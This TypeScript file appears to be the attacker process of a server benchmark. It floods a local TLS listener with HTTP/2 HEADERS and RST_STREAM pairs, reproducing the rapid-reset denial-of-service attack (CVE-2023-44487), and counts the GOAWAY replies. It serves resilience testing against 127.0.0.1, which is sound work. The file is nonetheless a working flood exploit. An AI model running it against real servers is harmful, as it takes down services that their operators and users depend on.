// The attacker of the rapid-reset scenario (CVE-2023-44487), in its own process so that its work never delays the
// honest client the bench measures: CONNECTIONS HTTP/2 connections to the TLS listener on 127.0.0.1:PORT, each
// writing HEADERS + RST_STREAM (CANCEL) pairs in batches of BATCH, back to back, for SECONDS; a connection the server
// closes is opened again at once. Prints `ATTACKING` once started, then one JSON line of counts at the end.
import { connect } from 'node:tls';
import { H2, h2Frame, h2RequestBlock } from '@gatehouse/testkit';

const port = Number(process.env.PORT);
const connections = Number(process.env.CONNECTIONS ?? 16);
const seconds = Number(process.env.SECONDS ?? 10);
const batch = Number(process.env.BATCH ?? 100);
const block = h2RequestBlock(process.env.ATTACK_PATH ?? '/bench');
const cancel = Buffer.from([0, 0, 0, 8]);
const preface = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), h2Frame(H2.SETTINGS, 0, 0), h2Frame(H2.SETTINGS, 1, 0)]);

const counts = { connections: 0, streams: 0, goaways: {} as Record<string, number> };
const until = Date.now() + seconds * 1000;

/** One connection, resetting streams until the server closes it or time is up. */
function attackOnce(): Promise<void> {
  return new Promise((resolve) => {
    counts.connections++;
    let id = 1;
    let open = true;
    const socket = connect({ host: '127.0.0.1', port, servername: 'bench.test', rejectUnauthorized: false, ALPNProtocols: ['h2'] }, () => {
      socket.write(preface);
      pump();
    });
    const pump = (): void => {
      if (!open) return;
      if (Date.now() >= until) return void socket.destroy();
      const frames: Buffer[] = [];
      for (let i = 0; i < batch; i++, id += 2) frames.push(h2Frame(H2.HEADERS, H2.END_STREAM | H2.END_HEADERS, id, block), h2Frame(H2.RST_STREAM, 0, id, cancel));
      counts.streams += batch;
      if (socket.write(Buffer.concat(frames))) setImmediate(pump);
      else socket.once('drain', pump);
    };
    let pending = Buffer.alloc(0);
    socket.on('data', (chunk: Buffer) => {
      pending = Buffer.concat([pending, chunk]);
      while (pending.length >= 9) {
        const length = pending.readUIntBE(0, 3);
        if (pending.length < 9 + length) break;
        if (pending[3] === H2.GOAWAY) {
          const code = String(pending.readUInt32BE(13));
          counts.goaways[code] = (counts.goaways[code] ?? 0) + 1;
        }
        pending = pending.subarray(9 + length);
      }
    });
    socket.on('error', () => {});
    socket.on('close', () => {
      open = false;
      resolve();
    });
  });
}

async function loop(): Promise<void> {
  while (Date.now() < until) await attackOnce();
}

process.stdout.write('ATTACKING\n');
await Promise.all(Array.from({ length: connections }, loop));
process.stdout.write(`${JSON.stringify(counts)}\n`);
process.exit(0);
